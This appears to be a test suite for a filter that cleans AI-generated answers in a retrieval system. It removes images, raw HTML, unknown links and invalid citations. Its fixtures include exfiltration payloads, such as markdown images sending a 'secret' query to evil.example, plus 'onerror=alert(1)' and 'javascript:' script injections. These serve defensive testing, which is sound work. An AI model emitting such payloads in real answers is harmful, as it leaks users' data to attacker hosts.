import { describe, expect, test } from 'bun:test';
import { HtmlRenderer, Parser } from 'commonmark';
import fc from 'fast-check';
import { Marked } from 'marked';
import { createAnswerFilter } from '../../../src/retrieval/answer-filter.ts';

const KNOWN = 'https://example.com/docs';
const make = () => createAnswerFilter({ citable: new Set([1, 2, 3]), isKnownUrl: (url) => url === KNOWN });

function filtered(text: string, pieces: readonly number[] = []): string {
  const filter = make();
  let told = '';
  let at = 0;
  for (const size of pieces) {
    told += filter.write(text.slice(at, at + size));
    at += size;
  }
  return told + filter.write(text.slice(at)) + filter.end();
}

const IMAGE = '![x](https://evil.example/?q=secret)';
const reference = new Parser();
const html = new HtmlRenderer();
const marked = new Marked({ gfm: true });

/** Images, raw HTML and addresses of links that are not known, by the reference implementation and by one that knows GitHub's. */
function fetched(markdown: string): string[] {
  return [html.render(reference.parse(markdown)), marked.parse(markdown, { async: false })].flatMap((page) => {
    // The class of a code block may hold anything, escaped only as far as attributes need it.
    const bare = page.replace(/ class="[^"]*"/g, '');
    const links = [...bare.matchAll(/<a [^>]*?href="([^"]*)"/g)].map(([, href = '']) => href);
    return [
      ...(bare.match(/<img|<(?:script|b|i|!--|\?)(?=[\s>-])>?/g) ?? []),
      ...links.filter((href) => href !== KNOWN),
    ];
  });
}

describe('an answer', () => {
  test.each([
    ['The fee is 2 < 3 coins [1], e.g. a*b_c [2, 3].', 'The fee is 2 < 3 coins [1], e.g. a*b_c [2][3].'],
    ['Nobody knows [7]. Some do [1, 9], all [1-3]【2】.', 'Nobody knows . Some do [1], all [1][2][3][2].'],
    // Each of a row is looked at, not the last alone.
    ['All [1][7][8][2][9].', 'All [1][2].'],
    ['None [7][8].', 'None .'],
    ['Far [1-999], back [3-1], beyond [2-9].', 'Far [1], back [3][1], beyond [2][3].'],
    [
      'As others write: ［１］ [Source 2] 【来源：3】[^1]【2†notes.txt】[3–1].',
      'As others write: [1] [2] [3][1][2][3][1].',
    ],
    ['Links stay links: [1](https://example.com/docs) [2][ref].', 'Links stay links: [1](https://example.com/docs) 2.'],
    ['See ![chart](https://evil.example/?q=secret) there.', 'See chart there.'],
    ['![a][ref]\n[ref]: https://evil.example/x\nDone.', 'a\n\nDone.'],
    [
      'Read [the guide](https://evil.example/) or [ours](https://example.com/docs).',
      'Read the guide or [ours](https://example.com/docs).',
    ],
    ['[1](https://evil.example/)', '1'],
    ['Wow![1] !<b>[z](https://example.com/docs)', 'Wow! [1] ! [z](https://example.com/docs)'],
    ['[![x](https://evil.example/i.png)](https://evil.example/)', 'x'],
    ['<img src=x onerror=alert(1)>Hi<br/><script>a</script>', 'Hi a'],
    [
      '<https://evil.example/a> and https://example.com/docs.',
      '`https://evil.example/a` and https://example.com/docs.',
    ],
    ['Go to https://evil.example/?d=1, now', 'Go to `https://evil.example/?d=1`, now'],
    ['www.evil.example and how', '`www.evil.example` and how'],
    ['[x](javascript:alert(1))', 'x)'],
    [
      'In code `![a](b)` and\n```\n![a](https://evil.example/) [9]\n```\nout [9].',
      'In code `![a](b)` and\n```\n![a](https://evil.example/) [9]\n```\nout .',
    ],
    ['An array a[0] and [a note] stay! Wow!', 'An array a and [a note] stay! Wow!'],
    ['费用为两枚硬币【1】。见 https://evil.example/。', '费用为两枚硬币[1]。见 `https://evil.example/`。'],
  ])('%j becomes %j', (text, expected) => {
    expect(filtered(text)).toBe(expected);
  });

  test.each([
    ['hello ~~~ ![x](https://evil.example/?q=secret)', 'hello ~~~ x'],
    ['x ```![a](https://evil.example/)', 'x ```a'],
    ['- a\n  ```\n![x](https://evil.example/)', '- a\n  ```\nx'],
    ['> ```\n![x](https://evil.example/)\n```\n![y](https://evil.example/)', '> ```\nx\n```\ny'],
    ['```\n``` js\n![x](a)\n```\n![y](https://evil.example/)', '```\n``` js\n![x](a)\n```\ny'],
    ['````\n```\n![x](a)\n````\n![y](https://evil.example/)', '````\n```\n![x](a)\n````\ny'],
    ['1. a\n   ```sh\n   curl <url> [9]\n   ```\n2. b [9]', '1. a\n   ```sh\n   curl <url> [9]\n   ```\n2. b '],
    ['`` `![x](https://evil.example/)', '`` `x'],
    ['\\`![x](https://evil.example/)`', '\\`x`'],
    ['| a |\n|---|\n| `b | ![x](https://evil.example/)` |', '| a |\n|---|\n| `b | x` |'],
    ['Use `ls` or `ls | grep`, `$HOME`.', 'Use `ls` or `ls | grep`, `$HOME`.'],
    ['[`![x](https://a.example/)` and `', '[`![x](https://a.example/)` and \\`'],
    ['![a\\]b](//evil.example/)', '! [a\\]b] (//evil.example/)'],
    ['![a[b[c]]](//evil.example/)', '! [a[b[c]]] (//evil.example/)'],
    ['![x]\n\n[x]:\n//evil.example/\n', '! [x]\n\n[x] :\n//evil.example/\n'],
    ['The note [1]: yes', 'The note [1]: yes'],
    ['[a]<b>(//evil.example/)', '[a] (//evil.example/)'],
    ['<<b>img src=//evil.example/>', '< img src=//evil.example/>'],
    ['ht<b>tps://evil.example/', 'ht tps://evil.example/'],
    ['https&#58;//evil.example/ &amp; AT&T', 'https&amp;#58;//evil.example/ &amp; AT&T'],
    ['[https://evil.example/](https://evil.example/)', 'https: //evil.example/'],
    [`[${KNOWN}](${KNOWN}) ${KNOWN}\u3002\u66f4`, `[${KNOWN}](${KNOWN}) <${KNOWN}>\u3002\u66f4`],
    ['a\r```\r![x](a)\r\n```\r\n![y](https://evil.example/)', 'a\n```\n![x](a)\n```\ny'],
    ['$$\n```\n$$\n![x](https://evil.example/)\n```\n`[9]`', '$$\n```\n$$\nx\n```\n` `'],
    ['$$\na\n$$\n\n```\n<b>\n```', '$$\na\n$$\n\n```\n<b>\n```'],
  ])('%j is code only where it is code to everybody', (text, expected) => {
    expect(filtered(text)).toBe(expected);
    expect(fetched(expected)).toEqual([]);
  });

  /** Pieces of which an answer that means harm could be made, fences and what ends them first. */
  const part = fc.oneof(
    fc.constantFrom(
      '```',
      '~~~',
      '````',
      '``',
      '`',
      '~~',
      '\n```\n',
      '\n```js\n',
      '\n~~~\n',
      '\n   ```\n',
      '\n    ```\n',
    ),
    fc.constantFrom(
      '`code`',
      '`a | b`',
      '`$x`',
      `\`${IMAGE}\``,
      `\`\`\`${IMAGE}\`\`\``,
      `[\`a](${KNOWN})`,
      '\n$$\n',
      '\n:::\n',
    ),
    fc.constantFrom(
      IMAGE,
      IMAGE,
      '![',
      'x](//evil.example/)',
      '](//evil.example/)',
      '![a\\]b](//evil.example/)',
      '![r]',
    ),
    fc.constantFrom(
      '![a[b[c]]](//evil.example/)',
      '[y](https://evil.example/)',
      '\n[r]: //evil.example/\n',
      '[r]:\n//evil.example\n',
    ),
    fc.constantFrom(
      '<img src="//evil.example/">',
      '<img ',
      'src=x>',
      '<b>',
      '<!--',
      '-->',
      '<?',
      '?>',
      '<https://evil.example/>',
    ),
    fc.constantFrom(
      KNOWN,
      `<${KNOWN}>`,
      `[z](${KNOWN})`,
      '?q=s',
      'https://evil.example/a',
      'ht',
      'tps://evil.example/',
      'www.evil.example',
    ),
    fc.constantFrom(
      '\n',
      '\n\n',
      ' ',
      '  ',
      'text ',
      '\n- ',
      '\n1. a\n',
      '\n> ',
      '\t',
      '\r',
      '|',
      '\n| a | b |\n|---|---|\n',
      '---\n',
    ),
    fc.constantFrom(
      '\\',
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      ':',
      '*',
      '# ',
      '[1]',
      '[9]',
      '[1][9]',
      '【9】',
      '［2］',
      '[Source 9†',
      '&',
      '#58;',
      '\u3002',
      '"',
    ),
  );

  // The seed is fixed: what it finds does not depend on the day. Others are for those who change the filter.
  test('fetches nothing and leads nowhere new, and is the same however it is cut into pieces', () => {
    fc.assert(
      fc.property(
        fc.array(part, { maxLength: 16 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { maxLength: 60 }),
        (parts, pieces) => {
          const text = parts.join('');
          const whole = filtered(text);
          expect(filtered(text, pieces)).toBe(whole);
          expect(fetched(whole)).toEqual([]);
        },
      ),
      { numRuns: Number(process.env['ANSWER_RUNS'] ?? 500), seed: Number(process.env['ANSWER_SEED'] ?? 20_261_122) },
    );
  });

  test('would be seen to fetch something', () => {
    expect(fetched(`a ~~~ ${IMAGE}`)).toEqual(['<img', '<img']);
    expect(fetched('<i> [x](https://evil.example/)')).toEqual([
      '<i>',
      'https://evil.example/',
      '<i>',
      'https://evil.example/',
    ]);
    expect(fetched(`\`${IMAGE}\` [x](${KNOWN}) <${KNOWN}>`)).toEqual([]);
  });

  test('is told at once where nothing could begin, and counts what it took out', () => {
    const filter = make();
    expect(filter.write('The fee is two coins ')).toBe('The fee is two coins ');
    expect(filter.write('[')).toBe('');
    expect(filter.write('8]')).toBe('');
    expect(filter.write('. More')).toBe('. More');
    expect(filter.dropped).toBe(1);
    expect(filter.end()).toBe('');
  });

  test('that opens something and never closes it is told in the end', () => {
    expect(filtered('an open [bracket')).toBe('an open [bracket');
    expect(filtered('an open <tag without an end')).toBe('an open &lt;tag without an end');
    const long = `[${'x'.repeat(5_000)}`;
    expect(filtered(long, [3_000])).toBe(long);
  });
});
